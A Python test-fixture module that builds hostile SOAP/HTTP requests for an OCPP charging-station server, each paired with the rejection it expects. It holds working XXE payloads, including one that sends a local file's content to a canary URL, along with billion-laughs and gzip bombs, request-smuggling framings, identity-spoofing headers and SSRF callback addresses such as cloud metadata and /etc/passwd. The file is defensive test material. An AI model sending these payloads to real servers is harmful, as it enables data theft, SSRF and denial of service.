"""What strangers post as SOAP."""

import gzip
import zlib
from base64 import b64encode
from pathlib import Path
from typing import NamedTuple

from hostile_station import CARD, NOW

KIB = 1024
GOOD = "GOOD"
"""A station that is known and accepted: what is read of an attack in its name would be stored."""
SECRET = "the-content-of-a-file"

# Envelopes ------------------------------------------------------------------------------------------------------------

OCPP = "urn://Ocpp/Cs/2015/10/"
ENV = "http://www.w3.org/2003/05/soap-envelope"
ENV_11 = "http://schemas.xmlsoap.org/soap/envelope/"
WSA = "http://www.w3.org/2005/08/addressing"
XML = '<?xml version="1.0" encoding="UTF-8"?>'
IDENTITY = f"<chargeBoxIdentity>{GOOD}</chargeBoxIdentity>"
OTHER_IDENTITY = "<chargeBoxIdentity>EVIL</chargeBoxIdentity>"
ACTION = "<wsa:Action>/StartTransaction</wsa:Action>"
ID = "<wsa:MessageID>urn:uuid:1</wsa:MessageID>"
HEARTBEAT = "<heartbeatRequest/>"


def start(tag: str = CARD, more: str = "", attributes: str = "") -> str:
    """A transaction, which is never refused for what its fields hold."""
    return (
        f"<startTransactionRequest{attributes}><connectorId>1</connectorId><idTag>{tag}</idTag>"
        f"<timestamp>{NOW}</timestamp><meterStart>0</meterStart>{more}</startTransactionRequest>"
    )


def parts(header: str, body: str, before: str = "", env: str = ENV, attributes: str = "") -> str:
    """An envelope with these in it."""
    return (
        f'{XML}{before}<e:Envelope xmlns:e="{env}" xmlns:wsa="{WSA}" xmlns="{OCPP}"{attributes}>'
        f"{header}{body}</e:Envelope>"
    )


def envelope(head: str = IDENTITY + ACTION + ID, body: str = start(), before: str = "", **more: str) -> str:
    return parts(f"<e:Header>{head}</e:Header>", f"<e:Body>{body}</e:Body>", before, **more)


def heartbeat(identity: str = GOOD) -> str:
    head = f"<chargeBoxIdentity>{identity}</chargeBoxIdentity><wsa:Action>/Heartbeat</wsa:Action>{ID}"
    return envelope(head, HEARTBEAT)


def boot(identity: str = GOOD, callback: str = "") -> str:
    head = f"<chargeBoxIdentity>{identity}</chargeBoxIdentity><wsa:Action>/BootNotification</wsa:Action>{ID}"
    listens = f"<wsa:From><wsa:Address>{callback}</wsa:Address></wsa:From>" if callback else ""
    body = "<chargePointVendor>Maker</chargePointVendor><chargePointModel>Model</chargePointModel>"
    return envelope(head + listens, f"<bootNotificationRequest>{body}</bootNotificationRequest>")


def posted(said: str | bytes, *headers: str, media_type: str = "application/soap+xml", path: str = "/soap") -> bytes:
    """A whole request of HTTP."""
    body = said.encode() if isinstance(said, str) else said
    lines = [f"POST {path} HTTP/1.1", "Host: x", f"Content-Type: {media_type}", f"Content-Length: {len(body)}"]
    return "\r\n".join([*lines, *headers, "", ""]).encode() + body


# Attacks --------------------------------------------------------------------------------------------------------------

PROTOCOL = "Sender/ProtocolError"
TWICE = f"{PROTOCOL}/InvalidAddressingHeader/InvalidCardinality"
MISMATCH = f"{PROTOCOL}/InvalidAddressingHeader/ActionMismatch"
NO_IDENTITY = f"{PROTOCOL}/MessageAddressingHeaderRequired"
NOT_SUPPORTED = "Receiver/NotSupported"


class Attack(NamedTuple):
    """A request, the status of its answer, and the fault in it; none: an answer without an envelope."""

    request: bytes
    status: int = 400
    fault: str = PROTOCOL


def _doctype(inside: str, before: str = "", body: str = start("&e;")) -> Attack:
    return Attack(posted(envelope(body=body, before=f"{before}<!DOCTYPE Envelope {inside}>")))


_LAUGHS = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))


def entities(canary: str, file: Path) -> dict[str, Attack]:
    """With a DOCTYPE. ``canary``: a URL that is not to be fetched, ``file`` a file that is not to be read."""
    return {
        "billion laughs": _doctype(f'[<!ENTITY e0 "ha">{_LAUGHS}<!ENTITY e "&e11;">]'),
        "quadratic blow-up": _doctype(f'[<!ENTITY e "{"x" * 60_000}">]', body=start("&e;" * 40_000)),
        "an entity that names itself": _doctype('[<!ENTITY e "&f;"><!ENTITY f "&e;">]'),
        "a file": _doctype(f'[<!ENTITY e SYSTEM "{file.as_uri()}">]'),
        "a device": _doctype('[<!ENTITY e SYSTEM "file:///dev/zero">]'),
        "a page": _doctype(f'[<!ENTITY e SYSTEM "{canary}">]'),
        "a page by a public name": _doctype(f'[<!ENTITY e PUBLIC "a" "{canary}">]'),
        "a parameter entity": _doctype(f'[<!ENTITY % p SYSTEM "{canary}"> %p;]'),
        "a parameter entity that makes another": _doctype(
            f'[<!ENTITY % f SYSTEM "{file.as_uri()}"><!ENTITY % p "<!ENTITY &#37; q SYSTEM \'{canary}?%f;\'>">%p;%q;]'
        ),
        "a DTD elsewhere": _doctype(f'SYSTEM "{canary}a.dtd"', body=start()),
        "a DTD with nothing in it": _doctype("[]", body=start()),
        "a DTD behind a comment": _doctype("[]", before="<!-- --><?a b?>", body=start()),
        "a default for an attribute": _doctype('[<!ATTLIST idTag a CDATA "b">]', body=start()),
        "a DTD alone": Attack(posted(f"{XML}<!DOCTYPE a [<!ENTITY e 'x'>]>")),
        "a DTD after the root": Attack(posted(envelope() + "<!DOCTYPE a>")),
        "a DTD within": Attack(posted(envelope(body="<!DOCTYPE a>" + start()))),
        "an entity nobody defined": Attack(posted(envelope(body=start("&nbsp;")))),
        "XInclude is not done": Attack(
            posted(
                envelope(
                    head=f'{IDENTITY}{ACTION}<i:include xmlns:i="http://www.w3.org/2001/XInclude" '
                    f'xmlns:e="{ENV}" e:mustUnderstand="1" href="{canary}"/>'
                )
            ),
            500,
            "MustUnderstand",
        ),
        "a stylesheet is not fetched": Attack(
            posted(envelope(before=f'<?xml-stylesheet href="{canary}"?>', body=start("&e;")))
        ),
    }


def _odd(more: str) -> Attack:
    return Attack(posted(envelope(body=start(more=more))))


def _bomb(length: int) -> str:
    """Many names in a namespace of this length, whose parser repeats it in each."""
    return f'<b:a xmlns:b="{"u" * length}">{"<b:b/>" * 5000}</b:a>'


SHAPES = {
    "an attribute of 200 KiB": Attack(posted(envelope(body=start(attributes=f' a="{"x" * 200 * KIB}"')))),
    "100,000 attributes": Attack(
        posted(envelope(body=start(attributes="".join(f' a{n}=""' for n in range(100_000))))), 413, ""
    ),
    "20,000 attributes": Attack(posted(envelope(body=start(attributes="".join(f' a{n}=""' for n in range(20_000)))))),
    "the same attribute twice": Attack(posted(envelope(body=start(attributes=' a="" a=""')))),
    "33 levels": _odd("<a>" * 33 + "</a>" * 33),
    "10,000 levels": _odd("<a>" * 10_000 + "</a>" * 10_000),
    "levels without end": Attack(posted(envelope(body="<a>" * 60_000))),
    "50,000 siblings": _odd("<a/>" * 50_000),
    "50,000 headers": Attack(posted(envelope(head=IDENTITY + ACTION + "<a/>" * 50_000))),
    "50,000 comments": _odd("<!---->" * 30_000),
    "5,000 namespaces": Attack(
        posted(envelope(body=start(attributes="".join(f' xmlns:n{n}="u{n}" n{n}:a=""' for n in range(5000)))))
    ),
    "a namespace of 100 KiB": _odd(_bomb(100 * KIB)),
    "a name of 200 KiB": Attack(posted(envelope(body=f"<{'a' * 200 * KIB}/>")), 500, NOT_SUPPORTED),
    "a text of 200 KiB": Attack(posted(envelope(body=start("x" * 200 * KIB)))),
    "a prefix nobody declared": _odd("<q:a/>"),
    "a prefix that is XML's own": Attack(posted(envelope(body=start(attributes=' xmlns:xml="urn:a"')))),
    "no end": Attack(posted(envelope()[:-10])),
    "two roots": Attack(posted(envelope() + envelope().removeprefix(XML))),
    "something after the end": Attack(posted(envelope() + "x")),
    "nothing": Attack(posted("")),
    "no XML": Attack(posted('[2,"x","Heartbeat",{}]')),
    "no SOAP": Attack(posted(start())),
    "a megabyte": Attack(posted(envelope() + " " * KIB * KIB), 413, ""),
}
"""What is too large, too deep, too many, or no XML at all."""


def _as(codec: str, declared: str | None = None, before: str = "", after: bytes = b"") -> Attack:
    """In an encoding; ``before`` stands behind the declaration, ``after`` before the whole as bytes."""
    text = envelope(body=start("ÄÖ"), before=before)
    told = text.removeprefix(XML) if declared is None else text.replace("UTF-8", declared, 1)
    return Attack(posted(after + told.encode(codec)))


_UTF_7 = envelope().removeprefix(XML).replace("<", "+ADw-").replace(">", "+AD4-")
_LE, _BE, _BOM_8 = b"\xff\xfe", b"\xfe\xff", b"\xef\xbb\xbf"

ENCODINGS = {
    "UTF-7": Attack(posted(XML.replace("UTF-8", "UTF-7") + _UTF_7)),
    "UTF-7 that does not say so": Attack(posted(_UTF_7)),
    "UTF-7 that hides a DTD": Attack(posted(XML + "+ADwAIQ-DOCTYPE a+AD4-" + envelope().removeprefix(XML))),
    "EBCDIC": _as("cp037", "cp037"),
    "EBCDIC that says it is UTF-8": _as("cp037", "UTF-8"),
    "UTF-32": _as("utf-32", "UTF-32"),
    "UTF-32 without a mark": _as("utf-32-be"),
    "UTF-16 without a mark": _as("utf-16-le", "UTF-16"),
    "UTF-16 that says it is UTF-8": _as("utf-16-le", "UTF-8", after=_LE),
    "UTF-16 with the mark of the other": _as("utf-16-le", after=_BE),
    "UTF-16 that hides a DTD": _as("utf-16-le", before="<!DOCTYPE a [<!ENTITY e 'x'>]>", after=_LE),
    "UTF-16 without a mark that hides a DTD": _as("utf-16-be", "UTF-16", before="<!DOCTYPE a>"),
    "UTF-16 behind a mark of UTF-8": _as("utf-16-le", after=_BOM_8 + _LE),
    "half a letter": Attack(posted(_LE + envelope().encode("utf-16-le") + b"<")),
    "UTF-8 that says it is UTF-16": _as("utf-8", "UTF-16"),
    "UTF-8 with a mark that says it is UTF-16": _as("utf-8", "UTF-16", after=_BOM_8),
    "UTF-8 that says it is ASCII": _as("utf-8", "US-ASCII"),
    "ISO 8859-1 that says it is UTF-8": _as("latin-1", "UTF-8"),
    "two marks": _as("utf-8", after=_BOM_8 + _BOM_8),
    "an encoding of Python's own": _as("utf-8", "unicode_escape"),
    "a charset of HTTP's that is not so": Attack(
        posted(envelope(body=start("ÄÖ")), media_type="application/soap+xml; charset=iso-8859-1")
    ),
    "a charset of HTTP's that nobody knows": Attack(posted(envelope(), media_type="text/xml; charset=utf-7")),
    "an overlong letter": Attack(posted(envelope(body=start("%")).encode().replace(b"%", b"\xc0\xbc"))),
    "half of a pair": Attack(posted(envelope(body=start("%")).encode().replace(b"%", b"\xed\xa0\x80"))),
    "NUL": Attack(posted(envelope(body=start("\x00")))),
    "NUL as a reference": Attack(posted(envelope(body=start("&#0;")))),
    "a control character": Attack(posted(envelope(body=start("\x1b[2J")))),
    "a control character as a reference": Attack(posted(envelope(body=start("&#x1b;")))),
    "no character": Attack(posted(envelope(body=start("&#xffff;")))),
}


def _header(head: str) -> Attack:
    return Attack(posted(envelope(head)), fault=TWICE)


_HEADER = f"<e:Header>{IDENTITY}{ACTION}{ID}</e:Header>"
_BODY = f"<e:Body>{start()}</e:Body>"
_MUST = f'xmlns:e="{ENV}" e:mustUnderstand="true"'

SMUGGLED = {
    "two identities": _header(IDENTITY + OTHER_IDENTITY + ACTION + ID),
    "the same identity twice": _header(IDENTITY * 2 + ACTION + ID),
    "two identities of two versions": _header(
        f'{IDENTITY}<chargeBoxIdentity xmlns="urn://Ocpp/Cs/2012/06/">EVIL</chargeBoxIdentity>{ACTION}'
    ),
    "two identities in other letters": _header(f"{IDENTITY}<ChargeBoxIdentity>EVIL</ChargeBoxIdentity>{ACTION}"),
    "two identities, one in no namespace": _header(
        f'{IDENTITY}<chargeBoxIdentity xmlns="">EVIL</chargeBoxIdentity>{ACTION}'
    ),
    "two Actions": _header(f"{IDENTITY}{ACTION}<wsa:Action>/Heartbeat</wsa:Action>"),
    "the same Action twice": _header(IDENTITY + ACTION * 2),
    "two Actions of two standards": _header(
        f'{IDENTITY}{ACTION}<Action xmlns="http://schemas.xmlsoap.org/ws/2004/08/addressing">/Heartbeat</Action>'
    ),
    "two MessageIDs": _header(IDENTITY + ACTION + ID * 2),
    "two bodies": Attack(posted(parts(_HEADER, _BODY * 2))),
    "two headers": Attack(posted(parts(_HEADER * 2, _BODY))),
    "the body before the header": Attack(posted(parts(_BODY, _HEADER))),
    "something beside them": Attack(posted(parts(_HEADER, _BODY + start()))),
    "two elements in the body": Attack(posted(envelope(body=start() * 2))),
    "nothing in the body": Attack(posted(envelope(body=""))),
    "an envelope in the body": Attack(posted(envelope(body=envelope().removeprefix(XML)))),
    "no identity": Attack(posted(envelope(ACTION + ID)), fault=NO_IDENTITY),
    "no header": Attack(posted(parts("", _BODY)), fault=NO_IDENTITY),
    "an empty identity": Attack(posted(envelope(f"<chargeBoxIdentity/>{ACTION}")), fault=NO_IDENTITY),
    "an identity in pieces": Attack(
        posted(envelope(f"<chargeBoxIdentity>GO<a/>OD</chargeBoxIdentity>{ACTION}")), fault=NO_IDENTITY
    ),
    "an identity in a foreign namespace": Attack(
        posted(envelope(f'<chargeBoxIdentity xmlns="urn:evil">{GOOD}</chargeBoxIdentity>{ACTION}')), fault=NO_IDENTITY
    ),
    "an identity in the body": Attack(
        posted(parts("<e:Header/>", f"<e:Body>{start(more=IDENTITY)}</e:Body>")), fault=NO_IDENTITY
    ),
    "an identity with a control character": Attack(
        posted(envelope(f"<chargeBoxIdentity>E&#x202e;L</chargeBoxIdentity>{ACTION}")), fault="Sender/IdentityMismatch"
    ),
    "an identity of 1,000 characters": Attack(
        posted(envelope(f"<chargeBoxIdentity>{'x' * 1000}</chargeBoxIdentity>{ACTION}")),
        fault="Sender/IdentityMismatch",
    ),
    "an identity of 10 KiB": Attack(
        posted(envelope(f"<chargeBoxIdentity>{'x' * 10 * KIB}</chargeBoxIdentity>{ACTION}")),
        fault=f"{PROTOCOL}/InvalidAddressingHeader",
    ),
    "a From of 10 KiB": Attack(
        posted(boot(callback=f"http://1.2.3.4/{'x' * 10 * KIB}")), fault=f"{PROTOCOL}/InvalidAddressingHeader"
    ),
    "another Action than the body": Attack(
        posted(envelope(f"{IDENTITY}<wsa:Action>/Heartbeat</wsa:Action>{ID}")), fault=MISMATCH
    ),
    "an unknown header that must be understood": Attack(
        posted(envelope(f'{IDENTITY}{ACTION}<a xmlns="urn:evil" {_MUST}/>')), 500, "MustUnderstand"
    ),
    "a signature that must be understood": Attack(
        posted(envelope(f'{IDENTITY}{ACTION}<s:Security xmlns:s="urn:wsse" {_MUST}/>')), 500, "MustUnderstand"
    ),
    "SOAP 1.1": Attack(posted(envelope(env=ENV_11), media_type="text/xml"), 500, ""),
    "no SOAP that anybody knows": Attack(posted(envelope(env="urn:evil")), 500, "VersionMismatch"),
    "a body of no version": Attack(posted(envelope(body=f'<a xmlns="urn:evil">{start()}</a>'))),
    "a body in no namespace": Attack(posted(envelope(body=start(attributes=' xmlns=""')))),
    "a message nobody has": Attack(posted(envelope(IDENTITY, "<makeCoffeeRequest/>")), 500, NOT_SUPPORTED),
    "a message of the other side": Attack(posted(envelope(IDENTITY, "<resetRequest/>")), 500, NOT_SUPPORTED),
    "an answer": Attack(posted(envelope(IDENTITY, "<startTransactionResponse/>")), 500, NOT_SUPPORTED),
    "a fault": Attack(posted(envelope(IDENTITY, "<e:Fault/>"))),
    "a version at the address of another": Attack(posted(envelope(), path="/soap/v1.5")),
}
"""What two readers of one envelope might take differently."""


def _coded(said: bytes, coding: str, status: int) -> Attack:
    return Attack(posted(said, f"Content-Encoding: {coding}"), status, "")


def _raw(said: bytes) -> bytes:
    deflate = zlib.compressobj(wbits=-15)
    return deflate.compress(said) + deflate.flush()


def _zeros() -> bytes:
    return bytes(32 * KIB * KIB)


_GZIP = gzip.compress(envelope().encode())

CODINGS = {
    "a gzip bomb": _coded(gzip.compress(_zeros()), "gzip", 413),
    "a deflate bomb": _coded(zlib.compress(_zeros()), "deflate", 413),
    "a raw deflate bomb": _coded(_raw(_zeros()), "deflate", 413),
    "gzip in gzip": _coded(gzip.compress(_GZIP), "gzip, gzip", 415),
    "gzip in gzip that says so once": Attack(posted(gzip.compress(_GZIP), "Content-Encoding: gzip")),
    "a coding nobody reads": _coded(envelope().encode(), "br", 415),
    "gzip that is none": _coded(envelope().encode(), "gzip", 400),
    "gzip cut short": _coded(_GZIP[:-4], "gzip", 400),
    "something behind gzip": _coded(_GZIP * 2, "gzip", 400),
    "raw deflate that says it is gzip": _coded(_raw(envelope().encode()), "gzip", 400),
    "a type that forms post": Attack(posted(envelope(), media_type="text/plain"), 415, ""),
    "no type": Attack(posted(envelope(), media_type=""), 415, ""),
    "a path of no tenant": Attack(posted(envelope(), path="/soap/a/b/c"), 404, ""),
    "a way out of the path": Attack(posted(envelope(), path="/soap/../fw"), 404, ""),
    "a tenant nobody has": Attack(posted(envelope(), path="/soap/nobody"), 400, "Sender/IdentityMismatch"),
    "a page": Attack(b"GET /soap HTTP/1.1\r\nHost: x\r\n\r\n", 405, ""),
    "another method": Attack(posted(envelope()).replace(b"POST", b"PUT", 1), 405, ""),
}


def basic(credentials: str) -> str:
    """A header of HTTP."""
    return f"Authorization: Basic {b64encode(credentials.encode()).decode()}"


CREDENTIALS = {
    "another user": basic("EVIL:password"),
    "no user": basic(":password"),
    "no colon": basic("GOOD"),
    "no base64": "Authorization: Basic ÄÖ!".encode().decode("latin-1"),
    "another scheme": "Authorization: Bearer GOOD",
    "two of them": f"{basic('GOOD:a')}\r\n{basic('GOOD:b')}",
}
"""In the name of GOOD, which has no password."""


def _smuggling(fields: str, body: bytes = b"0\r\n\r\n", line: str = "POST /soap HTTP/1.1") -> bytes:
    """A request whose end is in doubt, and behind that end a transaction."""
    head = f"{line}\r\nHost: x\r\nContent-Type: text/xml\r\n{fields}\r\n\r\n"
    return head.encode("latin-1") + body + posted(envelope())


FRAMING = {
    "a length and chunks": (_smuggling("Content-Length: 5\r\nTransfer-Encoding: chunked"), 400),
    "chunks and a length": (_smuggling("Transfer-Encoding: chunked\r\nContent-Length: 5"), 400),
    "two lengths": (_smuggling("Content-Length: 5\r\nContent-Length: 0"), 400),
    "the same length twice": (_smuggling("Content-Length: 5\r\nContent-Length: 5"), 400),
    "two lengths in one": (_smuggling("Content-Length: 5, 0"), 400),
    "a length less than nothing": (_smuggling("Content-Length: -5"), 400),
    "a length with a sign": (_smuggling("Content-Length: +5"), 400),
    "a length in hex": (_smuggling("Content-Length: 0x5"), 400),
    "a length of 5,000 digits": (_smuggling("Content-Length: " + "9" * 5000), 400),
    "chunks of another name": (_smuggling("Transfer-Encoding: xchunked"), 501),
    "chunks twice": (_smuggling("Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked"), 501),
    "chunks in HTTP/1.0": (_smuggling("Transfer-Encoding: chunked", line="POST /soap HTTP/1.0"), 400),
    "a chunk of no length": (_smuggling("Transfer-Encoding: chunked", b"x\r\n"), 400),
    "a chunk of endless length": (_smuggling("Transfer-Encoding: chunked", b"f" * 30 + b"\r\n"), 400),
    "blanks before the colon": (_smuggling("Content-Length : 5"), 400),
    "NUL in a header": (_smuggling("X: a\x00b"), 400),
    "a line without a name": (_smuggling(": a"), 400),
    "no Host": (b"POST /soap HTTP/1.1\r\nContent-Length: 0\r\n\r\n", 400),
    "a head of 20 KiB": (_smuggling("X: " + "x" * 20 * KIB), 431),
    "1,000 headers": (_smuggling("\r\n".join(f"X-{n}: {'y' * 20}" for n in range(1000))), 431),
    "no HTTP": (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(600), 400),
}
"""What two servers might cut into requests differently, and the one answer to it."""


def of_values(value: str) -> dict[str, str]:
    """One value wherever a number or a moment is read."""
    sampled = f"<sampledValue><value>{value}</value></sampledValue>"
    return {
        "a meter": start(more=f"<reservationId>{value}</reservationId>").replace(">0<", f">{value}<"),
        "a moment": start().replace(NOW, value),
        "a connector": start().replace(">1<", f">{value}<"),
        "an end": f"<stopTransactionRequest><transactionId>{value}</transactionId><timestamp>{value}</timestamp>"
        f"<meterStop>{value}</meterStop></stopTransactionRequest>",
        "a reading": f"<meterValuesRequest><connectorId>{value}</connectorId><transactionId>{value}</transactionId>"
        f"<meterValue><timestamp>{value}</timestamp>{sampled}</meterValue></meterValuesRequest>",
        "a status": f"<statusNotificationRequest><connectorId>{value}</connectorId><status>Available</status>"
        f"<errorCode>NoError</errorCode><timestamp>{value}</timestamp></statusNotificationRequest>",
    }


def refused_callbacks(port: int) -> tuple[str, ...]:
    """Addresses that a station may not have, by what is written there."""
    return (
        f"http://127.0.0.1:{port}/",
        f"http://127.1.2.3:{port}/",
        f"http://[::1]:{port}/",
        f"http://[::ffff:127.0.0.1]:{port}/",
        f"http://0.0.0.0:{port}/",
        f"http://[::]:{port}/",
        f"http://GOOD:password@127.0.0.1:{port}/",
        f"ftp://127.0.0.1:{port}/",
        "file:///etc/passwd",
        "gopher://127.0.0.1:25/",
        "http://169.254.169.254/latest/meta-data/",
        "http://[fe80::1]/",
        "http://[fd00:ec2::254]/",
        "http://224.0.0.1/",
        "http://255.255.255.255/",
        f"http://1.2.3.4/{'x' * 1500}",
        "http://1.2.3.4/#fragment",
        "http://1.2.3.4:99999/",
        "http:///",
        "javascript:alert(1)",
        "http://a b/",
    )


def names_of_loopback(port: int) -> tuple[str, ...]:
    """Addresses that are found out when they are looked up."""
    return (
        f"http://localhost:{port}/",
        f"http://2130706433:{port}/",
        f"http://0x7f.1:{port}/",
        f"http://127.1:{port}/",
    )
